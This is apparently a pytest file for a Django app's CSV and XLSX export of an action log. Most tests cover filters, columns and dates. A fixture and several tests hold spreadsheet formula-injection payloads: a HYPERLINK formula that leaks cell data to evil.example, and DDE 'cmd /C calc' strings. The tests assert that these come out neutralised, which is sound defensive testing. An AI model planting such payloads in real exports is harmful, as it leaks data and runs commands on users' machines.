"""Export: the log as shown, as CSV (streamed) and XLSX, with every column, and nothing in it
that a spreadsheet would run as a formula."""

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from actions.export import COLUMNS
from actions.models import Action, ActionUpdate
from actions.services import action_change, action_update_add
from members.personal_data import account_erase
from tests.factories import ActionFactory, GoalFactory, MeetingFactory, MembershipFactory, action_record

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def url(name: str, query: str = "") -> str:
    """The tests below ask for every action (`finished=on`): with no status chosen, the log and its exports
    have only the live ones (tests/actions/test_log_live_by_default.py)."""
    return reverse(f"actions:{name}", kwargs={"slug": "lambeth"}) + (f"?{query}" if query else "")


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:])))


def xlsx_rows(response) -> list[list]:
    assert isinstance(response, FileResponse)
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["Actions"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula in the sheet"
    # Days are real dates in the sheet (test_the_excel_file_has_real_numbers_and_dates_and_a_heading_that_stays):
    # read here as the CSV writes them, so that both are checked alike.
    return [
        [cell.date().isoformat() if isinstance(cell, datetime) else "" if cell is None else cell for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]


def as_dicts(rows: list[list]) -> list[dict]:
    header, *body = rows
    assert list(header) == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in body]


PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
    "description": "+cmd|' /C calc'!A0",
    "organisation": "-2+3+cmd|' /C calc'!A0",
    "status_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}
UPDATE = "=1+1 and more"


@pytest.fixture
def poisoned(collaborative):
    owner = MembershipFactory(collaborative=collaborative, user__display_name="=Evil Name").user
    supporter = MembershipFactory(collaborative=collaborative, user__display_name="@Another").user
    action = action_record(
        collaborative,
        by=owner,
        supporters=[supporter],
        status="blocked",
        **PAYLOADS,
    )
    action_update_add(action=action, by=owner, text=UPDATE, link="https://example.org/=x")
    return action


@pytest.mark.parametrize(("export", "read"), [("export_csv", csv_rows), ("export_xlsx", xlsx_rows)])
def test_a_formula_injection_payload_comes_out_inert(member_client, poisoned, export, read):
    [row] = as_dicts(read(member_client.get(url(export, "finished=on"))))
    assert row["Title"] == "'" + PAYLOADS["title"]
    assert row["Description"] == "'" + PAYLOADS["description"]
    assert row["Lead organisation"] == "'" + PAYLOADS["organisation"]
    assert row["Why blocked or dropped"] == "'" + PAYLOADS["status_reason"]
    assert row["Latest update"] == "'" + UPDATE
    assert row["Owner"] == "'=Evil Name"
    assert row["Supporters"] == "'@Another"
    assert row["Latest update link"] == "https://example.org/=x"
    for value in row.values():
        assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_every_formula_start_is_neutralised(member_client, collaborative, member, start):
    action_record(collaborative, by=member, title=f"{start}1+1 is two")
    [row] = as_dicts(csv_rows(member_client.get(url("export_csv", "finished=on"))))
    assert row["Title"] == f"'{start}1+1 is two"
    [row] = as_dicts(xlsx_rows(member_client.get(url("export_xlsx", "finished=on"))))
    # XML reads a carriage return back as a line feed.
    assert row["Title"] == f"'{start}1+1 is two".replace("\r", "\n")


def test_ordinary_text_is_left_alone(member_client, collaborative, member):
    action_record(collaborative, by=member, title="Ask 3 GPs - and the trust", organisation="St George's")
    [row] = as_dicts(csv_rows(member_client.get(url("export_csv", "finished=on"))))
    assert (row["Title"], row["Lead organisation"]) == ("Ask 3 GPs - and the trust", "St George's")


def test_control_characters_do_not_break_the_excel_file(member_client, collaborative, member):
    action_record(
        collaborative, by=member, title="Bell \x07 and escape \x1b in a title", description="Tab\tand\nnew line"
    )
    [row] = as_dicts(xlsx_rows(member_client.get(url("export_xlsx", "finished=on"))))
    assert row["Title"] == "Bell  and escape  in a title"
    assert row["Description"] == "Tab\tand\nnew line"
    [row] = as_dicts(csv_rows(member_client.get(url("export_csv", "finished=on"))))
    assert row["Title"] == "Bell \x07 and escape \x1b in a title"


def test_a_control_character_does_not_hide_a_formula(member_client, collaborative, member):
    action_record(collaborative, by=member, title='\x07=HYPERLINK("http://evil.example")')
    [row] = as_dicts(xlsx_rows(member_client.get(url("export_xlsx", "finished=on"))))
    assert row["Title"] == '\'=HYPERLINK("http://evil.example")'


@pytest.fixture
def log(collaborative):
    """Twelve actions: different owners, organisations, due dates and statuses."""
    owners = [MembershipFactory(collaborative=collaborative).user for _ in range(3)]
    statuses = ["open", "in_progress", "done", "blocked", "dropped", "open"]
    for n in range(12):
        status = statuses[n % len(statuses)]
        ActionFactory(
            collaborative=collaborative,
            title=f"Action {n:02}",
            owner=owners[n % 3],
            organisation=["SLaM", "Lambeth Council", ""][n % 3],
            status=status,
            status_reason="Because." if status in Action.NEEDS_REASON else "",
            due_on=TODAY + timedelta(days=n * 5 - 30),
        )
    return owners


@pytest.mark.parametrize(
    "query",
    [
        "",
        "status=open&status=blocked",
        "overdue=on",
        "organisation=SLaM&sort=title",
        "owner={owner}&sort=-due",
        "q=Action+0&sort=status",
        "due_from={from}&due_to={to}&sort=updated",
        "owner=abc&status=done",  # A bad value: the rest of the filters still apply, as on the page.
    ],
)
def test_the_exports_match_the_filtered_log(member_client, log, query):
    query = query.format(owner=log[1].pk, **{"from": (TODAY - timedelta(days=10)).isoformat()}, to=TODAY.isoformat())
    shown = member_client.get(url("log", query)).context["page"].object_list
    expected = [(str(row["pk"]), row["title"]) for row in shown]
    assert expected

    xlsx = as_dicts(xlsx_rows(member_client.get(url("export_xlsx", query))))
    assert [(str(row["Action number"]), row["Title"]) for row in xlsx] == expected
    csv_ = as_dicts(csv_rows(member_client.get(url("export_csv", query))))
    assert [(row["Action number"], row["Title"]) for row in csv_] == expected


def test_the_overdue_export_has_only_overdue_rows(member_client, log):
    rows = as_dicts(xlsx_rows(member_client.get(url("export_xlsx", "overdue=on"))))
    assert rows
    assert all(row["Overdue"] == "Yes" for row in rows)
    live_and_late = Action.objects.overdue(TODAY).count()
    assert len(rows) == live_and_late


def test_the_csv_is_streamed_with_a_header_and_a_row_per_action(member_client, log):
    response = member_client.get(url("export_csv", "finished=on"))
    assert isinstance(response, StreamingHttpResponse)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="actions-lambeth-{TODAY.isoformat()}.csv"'
    rows = csv_rows(response)
    assert rows[0] == COLUMNS
    assert len(rows) == 1 + Action.objects.count()
    assert all(len(row) == len(COLUMNS) for row in rows)


def test_the_excel_file_has_real_numbers_and_dates_and_a_heading_that_stays(member_client, log):
    # Issue 15, item 17: a spreadsheet a commissioner can sort and filter.
    response = member_client.get(url("export_xlsx", "finished=on"))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Actions"]
    heading = {cell.value: cell for cell in sheet[1]}
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:W{1 + Action.objects.count()}"
    assert sheet.column_dimensions[heading["Title"].column_letter].width == 40
    first = Action.objects.order_by("due_on", "pk").first()
    row = {COLUMNS[i]: cell for i, cell in enumerate(sheet[2])}
    assert (row["Action number"].data_type, row["Action number"].value) == ("n", first.pk)
    assert row["Due date"].is_date
    assert row["Due date"].value.date() == first.due_on
    assert row["Created on"].is_date
    assert row["Title"].data_type == "s"


def test_the_xlsx_is_a_download_with_its_name(member_client, log):
    response = member_client.get(url("export_xlsx", "finished=on"))
    assert response.headers["Content-Type"] == XLSX_TYPE
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="actions-lambeth-{TODAY.isoformat()}.xlsx"'
    )
    assert len(xlsx_rows(response)) == 1 + Action.objects.count()


@pytest.fixture
def full(collaborative, settings, tmp_path):
    """One action with everything filled in, a link and a file in its updates."""
    settings.EVIDENCE_ROOT = tmp_path
    settings.SITE_URL = "https://lwc.example.org"
    owner = MembershipFactory(collaborative=collaborative, user__display_name="Olu Owner").user
    supporters = [
        MembershipFactory(collaborative=collaborative, user__display_name=name).user for name in ("Zed", "Amy")
    ]
    meeting = MeetingFactory(collaborative=collaborative, starts_at=timezone.now() - timedelta(days=3))
    goal = GoalFactory(collaborative=collaborative, title="Crisis help nearby")
    action = action_record(
        collaborative,
        by=owner,
        supporters=supporters,
        title="Map the cafes",
        description="All of them.",
        organisation="SLaM",
        due_on=TODAY - timedelta(days=1),
        meeting=meeting,
        goal=goal,
    )
    action_update_add(action=action, by=owner, text="Older update.")
    update = action_update_add(
        action=action,
        by=owner,
        text="Half of them mapped.",
        link="https://example.org/map",
        upload=SimpleUploadedFile("map.pdf", b"%PDF-1.4 map"),
    )
    return action, update, meeting


def test_every_column_is_filled_in(member_client, full):
    action, update, meeting = full
    [row] = as_dicts(csv_rows(member_client.get(url("export_csv", "finished=on"))))
    assert row == {
        "Action number": str(action.pk),
        "Title": "Map the cafes",
        "Description": "All of them.",
        "Status": "Open",
        "Why blocked or dropped": "",
        "Owner": "Olu Owner",
        "Supporters": "Amy, Zed",
        "Lead organisation": "SLaM",
        "Due date": (TODAY - timedelta(days=1)).isoformat(),
        "Overdue": "Yes",
        "Done on": "",
        "Goal": "Crisis help nearby",
        "Key role": "",
        "From the meeting": meeting.local_start.date().isoformat(),
        "From the agenda item": "",
        "From the decision": "",
        "Latest update": "Half of them mapped.",
        "Latest update on": timezone.localdate(update.created_at).isoformat(),
        "Latest update link": "https://example.org/map",
        "Latest update file": f"https://lwc.example.org/c/lambeth/actions/evidence/{update.pk}/",
        "Created on": timezone.localdate(action.created_at).isoformat(),
        "Last changed": timezone.localdate(Action.objects.get(pk=action.pk).updated_at).isoformat(),
        "Address": f"https://lwc.example.org/c/lambeth/actions/{action.pk}/",
    }
    action_change(action=action, by=action.owner, changes={"status": "done"})
    [row] = as_dicts(xlsx_rows(member_client.get(url("export_xlsx", "finished=on"))))
    assert (row["Status"], row["Overdue"], row["Done on"]) == ("Done", "No", TODAY.isoformat())


@pytest.mark.parametrize(("export", "read"), [("export_csv", csv_rows), ("export_xlsx", xlsx_rows)])
def test_dates_are_the_collaboratives_own_not_utc(member_client, collaborative, member, export, read):
    late = datetime(2026, 6, 10, 23, 30, tzinfo=UTC)  # Half past midnight on 11 June in London: summer time.
    action = ActionFactory(
        collaborative=collaborative, owner=member, status="done", created_at=late, updated_at=late, done_at=late
    )
    ActionUpdate.objects.create(action=action, author=member, text="Finished.", created_at=late)
    [row] = as_dicts(read(member_client.get(url(export, "finished=on"))))
    assert [row[column] for column in ("Done on", "Latest update on", "Created on", "Last changed")] == [
        "2026-06-11"
    ] * 4


def test_people_erased_are_former_members_in_the_export(member_client, full):
    action, _update, _meeting = full
    account_erase(user=action.owner)
    [row] = as_dicts(csv_rows(member_client.get(url("export_csv", "finished=on"))))
    assert row["Owner"] == "Former member"
    assert "Olu Owner" not in str(row)


def test_only_the_collaboratives_own_actions_are_exported(member_client, collaborative, other_collaborative, member):
    action_record(collaborative, by=member, title="Ours")
    other = MembershipFactory(collaborative=other_collaborative).user
    action_record(other_collaborative, by=other, title="Theirs")
    for export, read in (("export_csv", csv_rows), ("export_xlsx", xlsx_rows)):
        assert [row["Title"] for row in as_dicts(read(member_client.get(url(export, "finished=on"))))] == ["Ours"]
